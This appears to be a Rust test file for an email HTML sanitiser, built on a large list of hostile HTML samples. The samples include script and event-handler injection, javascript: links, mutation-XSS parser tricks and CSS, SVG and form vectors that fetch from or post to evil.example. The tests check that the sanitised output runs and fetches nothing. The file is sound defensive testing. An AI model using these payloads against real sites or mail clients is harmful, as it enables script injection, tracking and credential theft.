//! HTML written to harm: whatever goes in, what comes out runs nothing, fetches nothing and stays in its frame.

mod made;
mod strict;

use made::{body_of, message_with};
use strict::judge;

/// Written from the classes of past faults in mail programs and sanitisers; evil.example is what must never be fetched.
const ROWS: &[&str] = &[
    // Scripts, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=https://evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<p onclick=alert(1) onmouseover='x'>p</p>",
    "<body onload=alert(1)>b",
    "<div\x0conclick=alert(1)>x",
    "<div/onclick=alert(1)/x>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<xss contenteditable onfocus=alert(1) tabindex=1>x",
    // Addresses that run.
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='java&NewLine;script&Tab;:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=livescript:x>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:application/xhtml+xml;base64,PHg+'>x</a>",
    "<a href=blob:https://evil.example/1>x</a>",
    "<a href=filesystem:https://evil.example/1>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=//evil.example/relative>x</a>",
    "<a href=/relative>x</a><a href=#fragment>y</a><a href=?q>z</a>",
    "<a href=cid:a@b>x</a>",
    "<a href=view-source:https://evil.example/>x</a>",
    "<a href=https://click.example/ ping=https://evil.example/ping>x</a>",
    "<a href=https://click.example/ target=_top rel=opener download>x</a>",
    "<a href='https://click.example/\" onclick=\"alert(1)'>x</a>",
    "<area href=javascript:alert(1) shape=default>",
    // Things that fetch.
    "<img src=https://evil.example/a.png>",
    "<img src=//evil.example/a.png>",
    "<img src='ht\ntps://evil.example/a.png'>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src='data:image/png;base64,AAAA' alt=x>",
    "<img srcset='https://evil.example/a 2x' sizes=100vw>",
    "<img src=cid:x lowsrc=https://evil.example/a dynsrc=https://evil.example/b longdesc=https://evil.example/c>",
    "<img usemap=#m src=x><map name=m><area href=https://evil.example/></map>",
    "<image src=https://evil.example/a.png>",
    "<picture><source srcset=https://evil.example/a><img src=https://evil.example/b></picture>",
    "<video poster=https://evil.example/a src=https://evil.example/b autoplay><track src=https://evil.example/c></video>",
    "<audio src=https://evil.example/a autoplay></audio>",
    "<body background=https://evil.example/a.png>b",
    "<table background=https://evil.example/a.png><tr background=//evil.example/b><td background=x>t</table>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example/a><link rel=dns-prefetch href=//evil.example>",
    "<link rel=preconnect href=https://evil.example/><link rel=modulepreload href=https://evil.example/a.js>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<object data=https://evil.example/a><param name=movie value=https://evil.example/b></object>",
    "<embed src=https://evil.example/a.swf>",
    "<applet code=x archive=https://evil.example/a.jar></applet>",
    "<bgsound src=https://evil.example/a.wav>",
    "<q cite=https://evil.example/>x</q><blockquote cite=https://evil.example/>y</blockquote>",
    "<html manifest=https://evil.example/m><p>x",
    "<portal src=https://evil.example/></portal>",
    // The document itself.
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Set-Cookie content=a=b><meta http-equiv=Content-Security-Policy content=''>",
    "<base href=https://evil.example/ target=_top><a href=x>x</a>",
    "<form action=https://evil.example/><input name=p type=password><button>go</button></form>",
    "<button formaction=https://evil.example/ form=f>x</button>",
    "<isindex action=https://evil.example/ prompt=x>",
    "</body></html><script>alert(1)</script>",
    "<!doctype html [<!ENTITY x SYSTEM 'https://evil.example/'>]><p>&x;",
    "<?xml-stylesheet href='https://evil.example/a.xsl'?><p>x",
    "<p id=location name=body class=x>clobber</p><img name=getElementById>",
    // Styles.
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>p{background:url(https://evil.example/a)}</style><p>x",
    "<style><!--</style><img src=https://evil.example/a title='--></style>'>",
    "<p style='background:url(https://evil.example/a)'>x",
    "<p style='background:url(https://evil.example/a'>unclosed",
    "<p style='background:url(\"https://evil.example/a\"'>unclosed",
    "<p style='background:ur\\6c(https://evil.example/a)'>x",
    "<p style='background:\\75\\72\\6c(https://evil.example/a)'>x",
    "<p style='background:u/**/rl(https://evil.example/a)'>x",
    "<p style='background:image-set(\"https://evil.example/a\" 1x)'>x",
    "<p style='background:-webkit-cross-fade(url(//evil.example/a),url(//evil.example/b),50%)'>x",
    "<p style='--x:url(https://evil.example/a);background:var(--x)'>x",
    "<p style='background:v\\61r(--x)'>x",
    "<p style='list-style:url(https://evil.example/a)'>x<p style='cursor:url(https://evil.example/a),auto'>y",
    "<p style='content:url(https://evil.example/a)'>x<p style='border-image:url(//evil.example/a) 1'>y",
    "<p style='mask:url(//evil.example/a);clip-path:url(//evil.example/b#c);filter:url(//evil.example/d#e)'>x",
    "<p style='@import url(https://evil.example/a)'>x",
    "<p style='width:expression(alert(1))'>x",
    "<p style='behavior:url(#x);-moz-binding:url(//evil.example/x.xml#x)'>x",
    "<p style='position:fixed;top:0;left:0;z-index:9999'>x",
    "<p style='position:fixed!important'>x",
    "<p style='POSITION : sticky'>x",
    "<p style='color:red}:root{background:url(//evil.example/a)'>x",
    "<p style='font-family:\"a;background:url(//evil.example/a);b\"'>x",
    "<p style=\"color:red&#59;background&#58;url&#40;//evil.example/a&#41;\">x",
    "<p style='background:src(\"https://evil.example/a\")'>x<p style='background:image(\"//evil.example/a\")'>y",
    "<p style='font:url(//evil.example/a)'>x<p style='src:url(//evil.example/a)'>y",
    "<font face='x;background:url(//evil.example/a)' color=red size=9>x</font>",
    // SVG and MathML.
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><a><animate attributeName=href by=javascript:alert(1)></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><image href=https://evil.example/a /><feImage xlink:href=https://evil.example/b /></svg>",
    "<svg><use href=https://evil.example/a.svg#x /></svg>",
    "<svg><rect fill='url(https://evil.example/a#b)' stroke='url(//evil.example/c)'/></svg>",
    "<svg><style>*{background:url(https://evil.example/a)}</style></svg>",
    "<svg><foreignObject><iframe src=https://evil.example/></foreignObject></svg>",
    "<svg><desc><img src=https://evil.example/a onerror=alert(1)></desc></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=https://evil.example/a></annotation-xml></math>",
    // What is read in two ways.
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math></p><style><!--</style><img src onerror=alert(1)>--></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><![CDATA[><img src=https://evil.example/a onerror=alert(1)>]]></svg>",
    "<![CDATA[<img src=https://evil.example/a>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<template><img src=https://evil.example/a onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<select><option><style></select><img src=x onerror=alert(1)></style>",
    "<select><selectedcontent></selectedcontent><option><img src=x onerror=alert(1)></select>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p title='<img src=x onerror=alert(1)>'>x",
    "<p title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x",
    "<p title=`<img src=x onerror=alert(1)>`>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- comment --!><img src=https://evil.example/a>-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- unclosed <img src=https://evil.example/a>",
    "<!--[if mso]><img src=https://evil.example/a><![endif]--><![if !mso]><p>x<![endif]>",
    "<img src=\"https://evil.example/?",
    "<a href='https://evil.example/?",
    "<p title=\"unclosed <img src=https://evil.example/a>",
    "<\0script>alert(1)</script><scr\0ipt>alert(1)</script>",
    "<a\u{a0}href=javascript:alert(1)>x</a>",
    "<table><td><a href=https://click.example><table><td></a><img src=x onerror=alert(1)></table></table>",
    "<b><i><u><a href=javascript:alert(1)><p></b></i></u></a>x",
    "<frameset onload=alert(1)><p>x",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<import implementation=https://evil.example/><t:set attributeName=innerHTML to=x>",
    "<p>\u{202E}turned</p>",
];

fn check(given: &str) {
    let body = body_of(given);
    judge(given, &body);
    // Shown once more, it stays what it is: nothing mutates into something else on a second reading.
    judge(given, &body_of(&body));
}

#[test]
fn hostile_html_does_nothing() {
    assert!(ROWS.len() >= 60);
    for given in ROWS {
        check(given);
        check(&format!("<div><table><tr><td>{given}"));
        check(&format!("<p>{given}</p><img src=https://evil.example/after>"));
    }
}

#[test]
fn all_of_it_in_one_message_does_nothing() {
    check(&ROWS.concat());
    check(&ROWS.iter().rev().copied().collect::<String>());
}

#[test]
fn the_judge_would_see_a_leak() {
    for body in [
        "<script>",
        "<img src=\"https://evil.example/a\">",
        "<p style=\"background:url(x)\">",
        "<a href=\"javascript:alert(1)\">",
        "<p onclick=\"x\">",
        "<p class=\"x\">",
        "<svg>",
        "<!-- x -->",
        "<p",
        "<p title=x>",
    ] {
        assert!(std::panic::catch_unwind(|| judge(body, body)).is_err(), "{body}");
    }
}

#[test]
fn honest_html_stays() {
    let rows = [
        ("<p>Hello <b>World</b></p>", "<p>Hello <b>World</b></p>"),
        (
            "<TABLE BORDER=1 bgcolor=#eeeeee><TR><TD COLSPAN=2>x</TD></TR></TABLE>",
            "<table border=\"1\" bgcolor=\"#eeeeee\"><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table>",
        ),
        (
            "<p style='COLOR: #1F497D; margin:0cm; font-family:\"Calibri\",sans-serif'>x</p>",
            "<p style=\"color:#1F497D;margin:0cm;font-family:&quot;Calibri&quot; , sans-serif\">x</p>",
        ),
        (
            "<a href='mailto:a@example.com'>x</a>",
            "<a href=\"mailto:a@example.com\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>",
        ),
        ("a<o:p></o:p>b", "ab"),
        ("<blockquote type=cite>q</blockquote>", "<blockquote>q</blockquote>"),
        ("<noscript>x</noscript><p>y", "<p>y</p>"),
    ];
    for (given, expected) in rows {
        assert_eq!(body_of(given), expected, "{given}");
    }
}

#[test]
fn the_document_forbids_itself_everything() {
    let document = message_with("<p>x").html.unwrap();
    for expected in [
        "<!doctype html><html><head><meta charset=\"utf-8\"><meta http-equiv=\"Content-Security-Policy\" content=\"",
        "default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'",
        "<meta name=\"referrer\" content=\"no-referrer\">",
        "<body><p>x</p></body></html>",
    ] {
        assert!(document.contains(expected), "{expected} is not in {document}");
    }
}

#[test]
fn blocked_content_is_counted() {
    let message = message_with(
        "<img src=https://evil.example/a><p style='background:url(https://evil.example/b)'>x<a href=https://c.example>y</a>",
    );
    assert_eq!(message.remote_blocked, 2);
}

#[test]
fn too_much_html_becomes_an_attachment() {
    let message = message_with(&"<p>x".repeat(3 * 1024 * 1024));
    assert_eq!((message.html, message.truncated), (None, true));
    let names: Vec<String> = message.attachments.into_iter().map(|attachment| attachment.name).collect();
    assert_eq!(names, ["attachment.html"]);
}

#[test]
fn deep_html_becomes_an_attachment() {
    let nested = |depth: usize| (0..depth).fold(String::new(), |html, depth| html + &format!("<div title={depth}>"));
    check(&nested(900));
    for given in [nested(20_000), "<svg><td>".repeat(20_000), "<b><i>".repeat(20_000)] {
        let message = message_with(&given);
        assert_eq!((message.html, message.truncated, message.attachments.len()), (None, true, 1));
    }
}
